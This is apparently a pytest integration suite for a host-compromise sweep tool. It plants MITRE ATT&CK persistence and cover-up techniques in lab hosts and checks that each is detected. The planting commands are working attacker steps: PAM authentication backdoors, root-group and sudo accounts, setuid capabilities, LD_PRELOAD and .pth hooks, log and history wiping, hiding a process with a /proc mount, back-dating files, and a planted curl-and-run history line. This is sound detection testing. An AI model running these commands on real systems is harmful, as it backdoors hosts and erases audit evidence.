"""Real persistence and cover-up techniques, planted as red teams plant them (MITRE ATT&CK), named by the sweep.

Each technique is planted alone in a lab host of its own, and all of them together in one more; an untouched
host built the same way must read clean. All are swept by one command. Each entry of TECHNIQUES is (ATT&CK id,
what is planted, check expected, words expected in the finding); PLANTS says how each is planted.
"""

from __future__ import annotations

import json
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.integration.secure.netlab import Lab, LabHost, needs_lab

pytestmark = [pytest.mark.root, pytest.mark.slow, needs_lab]

SILENT_LIB = "void aftermath_lab_noop(void) {}\n"
TECHNIQUES = [
    ("T1037.004", "rc.local runs a program from /tmp", "init-script", "/etc/rc.local"),
    ("T1037.004", "rc.local runs a program from /tmp", "persistence-runs-from-temp", "/tmp/.update"),
    ("T1037.004", "SysV init script", "init-script", "/etc/init.d/sysupdate"),
    ("T1556.003", "PAM rule accepting every uid", "pam-backdoor", "accepts every user without a password"),
    ("T1556.003", "pam_permit as sufficient", "pam-backdoor", "pam_permit always says yes"),
    ("T1556.003", "PAM module from /tmp", "pam-backdoor", "outside the system's security folder"),
    ("T1136.001", "new local account", "account-backdoor", "account evil_user"),
    ("T1136.001", "system account with a shell", "account-backdoor", "account evil_account"),
    ("T1078.003", "account with GID 0", "account-backdoor", "account butter"),
    ("T1548.003", "account added to sudo", "account-backdoor", "is in the sudo group"),
    ("T1548.001", "cap_setuid on a copy of python", "file-capability", "/tmp/cap_python has cap_setuid"),
    ("T1574.006", "LD_PRELOAD for one program", "ld-preload", "LD_PRELOAD=/var/tmp/libhook.so"),
    ("T1574.006", "LD_PRELOAD in a start-up file", "startup-preload", "/etc/profile.d/hook.sh"),
    ("T1574.006", "preloaded library dropped in /var/tmp", "dropped-in-temp", "/var/tmp/libhook.so"),
    ("T1546.018", "Python .pth startup hook", "python-startup-hook", "evil.pth"),
    ("T1564.001", "program run from a hidden folder", "suspicious-executable", "runs from a hidden folder"),
    ("T1564.001", "'...' folder in /tmp", "dropped-in-temp", "/tmp/..."),
    ("T1036.004", "process renamed with prctl", "renamed-process", "calls itself 'kworker/0:2'"),
    ("T1059.004", "script run from /tmp, then deleted", "vanished-script", "/tmp/run.sh"),
    ("T1070.003", "history linked to /dev/null", "cover-tracks", "/root/.bash_history is a link to /dev/null"),
    ("T1070.003", "history cleared", "cover-tracks", "/home/evil_user/.bash_history was emptied"),
    ("T1562.003", "HISTSIZE=0 in a profile", "cover-tracks", "switches shell history off (HISTSIZE=0)"),
    ("T1562.003", "HISTFILE unset in a profile", "cover-tracks", "switches shell history off (unset HISTFILE)"),
    ("T1059.004", "history of a script run from /tmp", "cover-tracks", "runs a downloaded or temp-folder script"),
    ("T1070.002", "auth.log emptied", "cover-tracks", "/var/log/auth.log was emptied"),
    ("T1070.002", "syslog deleted", "cover-tracks", "/var/log/syslog is missing"),
    ("T1070.002", "wtmp emptied", "cover-tracks", "/var/log/wtmp was emptied"),
    ("T1564", "process hidden by a mount over /proc/PID", "hidden-process", "is hidden by a mount over /proc/"),
    ("T1036.005", "program run from a home folder", "suspicious-executable", "runs from a home folder (/home/analyst"),
    ("T1543.002", "systemd unit runs a program from /dev/shm", "persistence-runs-from-temp",
     "systemd file /etc/systemd/system/sysupd.service points into a temp folder: /dev/shm/.sysupd"),
    ("T1070.006", "cron job back-dated a year", "recent-persistence", "/etc/cron.d/backup changed 0.0 days ago "
     "(back-dated: its modification time says 365 days ago)"),
    ("T1556.003", "PAM file deleted", "config-drift", "/etc/pam.d/chfn, a configuration file of package passwd, "
     "was deleted"),
    ("T1556.003", "PAM file changed from its package's", "config-drift",
     "/etc/pam.d/su differs from what package util-linux installed"),
    ("T1565.001", "conffile edited and back-dated a year", "config-drift",
     "/etc/issue differs from what package base-files installed"),
]


BG = "</dev/null >/dev/null 2>&1 &"
# histories are read from the accounts' homes: the account must exist
EVIL_USER = "id evil_user || useradd -m -s /bin/bash -p '*' evil_user"
ANALYST = "id analyst || useradd -m -s /bin/bash analyst"
# what each technique plants, as the public atomic tests do it: one shell script per TECHNIQUES name
PLANTS = {
    "rc.local runs a program from /tmp": "printf '#!/bin/sh -e\\n/tmp/.update &\\nexit 0\\n' > /etc/rc.local && "
                                         "chmod 755 /etc/rc.local",
    "SysV init script": "printf '#!/bin/sh\\n### BEGIN INIT INFO\\n# Provides: sysupdate\\n### END INIT INFO\\n"
                        "/usr/local/bin/sysupdate &\\n' > /etc/init.d/sysupdate && chmod 755 /etc/init.d/sysupdate && "
                        "ln -s ../init.d/sysupdate /etc/rc2.d/S99sysupdate",
    "PAM rule accepting every uid": "sed -i '1i auth sufficient pam_succeed_if.so uid >= 0' /etc/pam.d/su",
    "pam_permit as sufficient": "sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/chsh",
    "PAM module from /tmp": "cp /usr/lib/x86_64-linux-gnu/security/pam_permit.so /tmp/pam_evil.so && "
                            "sed -i '1i auth sufficient /tmp/pam_evil.so' /etc/pam.d/sshd",
    "new local account": "useradd -m -s /bin/bash -p '*' evil_user",
    "system account with a shell": "useradd -r -M -s /bin/bash evil_account",
    "account with GID 0": "useradd -g 0 -M -d /root -s /bin/bash butter",
    "account added to sudo": f"({EVIL_USER}) && usermod -aG sudo evil_user",
    "cap_setuid on a copy of python": "cp /usr/bin/python3 /tmp/cap_python && setcap cap_setuid+ep /tmp/cap_python",
    "LD_PRELOAD for one program": f"LD_PRELOAD=/var/tmp/libhook.so setsid sleep 3600 {BG}",
    "LD_PRELOAD in a start-up file": "echo 'export LD_PRELOAD=/var/tmp/libhook.so' > /etc/profile.d/hook.sh",
    "preloaded library dropped in /var/tmp": "test -s /var/tmp/libhook.so",
    "Python .pth startup hook": "mkdir -p /usr/local/lib/python3.11/dist-packages && echo \"import os; "
                                "os.system('id > /tmp/.pth_ran')\" > /usr/local/lib/python3.11/dist-packages/evil.pth",
    "program run from a hidden folder": "mkdir -p /root/.cache/.sys && cp /bin/sleep /root/.cache/.sys/kupdate && "
                                        f"setsid /root/.cache/.sys/kupdate 3600 {BG}",
    "'...' folder in /tmp": "mkdir '/tmp/...' && echo loot > '/tmp/.../data'",
    "process renamed with prctl": "setsid python3 -c \"import ctypes, time; ctypes.CDLL(None).prctl(15, "
                                  f"b'kworker/0:2', 0, 0, 0); time.sleep(3600)\" {BG}",
    "script run from /tmp, then deleted": "printf 'sleep 3600\\n' > /tmp/run.sh && (setsid bash /tmp/run.sh "
                                          f"{BG}) && sleep 0.3 && rm /tmp/run.sh",
    "history linked to /dev/null": "ln -sf /dev/null /root/.bash_history",
    "history cleared": f"({EVIL_USER}) && echo 'cat /etc/shadow' > /home/evil_user/.bash_history && "
                       "touch -d '60 days ago' /home/evil_user/.bash_history && : > /home/evil_user/.bash_history",
    "HISTSIZE=0 in a profile": "echo 'export HISTSIZE=0' > /etc/profile.d/quiet.sh",
    "HISTFILE unset in a profile": "echo 'unset HISTFILE' > /etc/profile.d/nohist.sh",
    "history of a script run from /tmp": f"({ANALYST}) && printf 'cd /tmp\\ncurl -s "
                                         "http://203.0.113.9/s.sh -o /tmp/s.sh\\nbash /tmp/s.sh\\nrm /tmp/s.sh\\n' > "
                                         "/home/analyst/.bash_history",
    "auth.log emptied": "echo 'Nov  1 sshd[1]: Accepted publickey for root' > /var/log/auth.log.1 && "
                        "touch -d '60 days ago' /var/log/auth.log.1 && "
                        "echo 'Dec  1 sshd[2]: Accepted password for evil_user' > /var/log/auth.log && "
                        ": > /var/log/auth.log",
    "syslog deleted": "echo 'Nov  1 cron[1]: started' > /var/log/syslog.1 && touch -d '60 days ago' "
                      "/var/log/syslog.1 && rm -f /var/log/syslog",
    "wtmp emptied": ": > /var/log/wtmp.1 && touch -d '60 days ago' /var/log/wtmp.1 && : > /var/log/wtmp",
    # a folder mounted over /proc/PID blanks the process for ps and every reader of /proc; prints the PID
    "process hidden by a mount over /proc/PID": f"setsid sleep 3600 {BG} mkdir -p /var/tmp/.hide && "
                                                "mount --bind /var/tmp/.hide /proc/$! && echo $!",
    "program run from a home folder": f"({ANALYST}) && cp /bin/sleep /home/analyst/miner && "
                                      f"setsid /home/analyst/miner 3600 {BG}",
    "systemd unit runs a program from /dev/shm": "printf '[Service]\\nExecStart=/dev/shm/.sysupd\\n[Install]\\n"
                                                 "WantedBy=multi-user.target\\n' > /etc/systemd/system/sysupd.service",
    "cron job back-dated a year": "echo '0 3 * * * root /usr/local/bin/backup' > /etc/cron.d/backup && "
                                  "touch -d '365 days ago' /etc/cron.d/backup",
    "PAM file deleted": "rm /etc/pam.d/chfn",
    "PAM file changed from its package's": "echo '# changed by hand' >> /etc/pam.d/su",
    "conffile edited and back-dated a year": "echo 'Authorized use only' >> /etc/issue && "
                                             "touch -d '1 year ago' /etc/issue",
}
NEEDS_LIB = ("LD_PRELOAD for one program", "preloaded library dropped in /var/tmp")


def compile_lib(build: Path) -> bytes:
    if not (build / "noop.so").exists():
        (build / "noop.c").write_text(SILENT_LIB)
        subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(build / "noop.so"), str(build / "noop.c")], check=True,
                       capture_output=True)
    return (build / "noop.so").read_bytes()


def plant(host: LabHost, build: Path, names: list[str]) -> int:
    """Plant the techniques named; returns the PID hidden by a mount over /proc/PID (0 when not planted)."""
    hidden = 0
    if set(names) & set(NEEDS_LIB):
        (host.root / "var/tmp/libhook.so").write_bytes(compile_lib(build))
    for name in names:
        out = host.run("sh", "-c", PLANTS[name]).stdout.strip()
        hidden = int(out) if name == "process hidden by a mount over /proc/PID" else hidden
    return hidden


def plant_all(host: LabHost, build: Path) -> int:
    """Every technique of TECHNIQUES in one host; returns the PID hidden by a mount."""
    return plant(host, build, list(PLANTS))


def as_installed(host: LabHost) -> None:
    """The lab's disk is this machine's: leave out what the sandbox and the container image added to it, which
    no untouched install has: a .pth hook, /root's start-up files rewritten when the session started (recent,
    so rightly flagged), and Docker's policy-rc.d (a file no package owns)."""
    host.run("sh", "-c", "rm -f /usr/lib/python3/dist-packages/_sandboxing_*.pth "
                         "/usr/local/lib/python3*/dist-packages/_sandboxing_*.pth "
                         "/root/.bashrc /root/.profile /usr/sbin/policy-rc.d")


Reports = dict[str, dict[str, Any]]


@pytest.fixture(scope="module")
def swept(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Reports]:
    """Each technique alone in a host of its own, all of them in one host ("owned"), and an untouched host
    ("clean"), swept by one command: each host's report, with its ranking, the PID its mount hides and the exit."""
    base = tmp_path_factory.mktemp("techniques")
    with Lab(base / "lab") as lab:
        hosts = {"clean": lab.add_host("clean"), "owned": lab.add_host("owned")}
        hosts.update({name: lab.add_host(f"t{i:02d}") for i, name in enumerate(PLANTS)})
        for host in hosts.values():
            as_installed(host)
        hidden = {"owned": plant_all(hosts["owned"], base)}
        hidden.update({name: plant(hosts[name], base, [name]) for name in PLANTS})
        started = time.monotonic()
        targets = [arg for host in hosts.values() for arg in ("--host", f"root@{host.ip}")]
        proc = lab.aftermath("secure", "sweep", *targets, *lab.ssh_args(), "--json", str(base / "sweep.json"),
                             timeout=1800)
        seconds = time.monotonic() - started
    report = json.loads((base / "sweep.json").read_text())
    by_ip = {h["host"].rsplit("@", 1)[-1]: h for h in report["hosts"]}
    ranking = {r["host"].rsplit("@", 1)[-1]: r for r in report["ranking"]}
    yield {name: {**by_ip[host.ip], "ranking": ranking[host.ip], "hidden": hidden.get(name, 0),
                  "exit": proc.returncode, "seconds": seconds} for name, host in hosts.items()}


def findings(report: dict[str, Any]) -> list[dict[str, Any]]:
    return report["findings"]  # type: ignore[no-any-return]


def named(report: dict[str, Any], check: str, words: str) -> bool:
    return any(words in f["what"] for f in findings(report) if f["check"] == check)


@pytest.mark.parametrize(("attack", "planted", "check", "words"), TECHNIQUES, ids=[t[1] for t in TECHNIQUES])
def test_each_technique_is_named_in_a_host_of_its_own_and_among_all_the_others(
        swept: Reports, attack: str, planted: str, check: str, words: str) -> None:
    alone = swept[planted]
    assert alone["error"] is None and named(alone, check, words), (attack, planted, findings(alone))
    assert named(swept["owned"], check, words), (attack, planted, [f["what"] for f in findings(swept["owned"])])


def test_the_host_with_every_technique_is_likely_compromised_and_the_untouched_one_clean(swept: Reports) -> None:
    clean, owned = swept["clean"], swept["owned"]
    assert owned["exit"] == 1 and owned["ranking"]["verdict"] == "likely compromised"
    loud = [f"{f['check']}: {f['what']}" for f in findings(clean) if f["severity"] in ("high", "critical")]
    assert loud == [], '\n'.join(loud)
    assert clean["ranking"]["verdict"] == "no strong signs", findings(clean)


def test_config_drift_is_high_for_pam_and_medium_for_a_banner_and_silent_on_the_untouched_host(
        swept: Reports) -> None:
    clean, owned = swept["clean"], swept["owned"]
    drift = {f["evidence"]["path"]: f["severity"] for f in findings(owned) if f["check"] == "config-drift"}
    assert drift["/etc/pam.d/su"] == "high" and drift["/etc/pam.d/sshd"] == "high", drift
    assert drift["/etc/issue"] == "medium", drift  # a year old by its times: drift is reported whatever its age
    assert drift["/etc/pam.d/chfn"] == "high", drift  # deleted: PAM falls back to other rules
    # the untouched host may lack a conffile the image builder deleted (low), nothing more
    assert [f["what"] for f in findings(clean) if f["check"] == "config-drift" and f["severity"] != "low"] == []
    assert "config-drift" in clean["checks_ran"]


def test_the_process_hidden_by_a_mount_over_its_proc_folder_is_named_by_its_pid(swept: Reports) -> None:
    for name in ("owned", "process hidden by a mount over /proc/PID"):
        report = swept[name]
        mounts = [f for f in findings(report) if f["check"] == "hidden-process" and "mount" in f["what"]]
        assert [f["evidence"]["pid"] for f in mounts] == [report["hidden"]], mounts
        assert mounts[0]["severity"] == "critical" and mounts[0]["evidence"]["root"] == "/var/tmp/.hide"


def test_every_technique_has_its_plant() -> None:
    assert {t[1] for t in TECHNIQUES} == set(PLANTS)
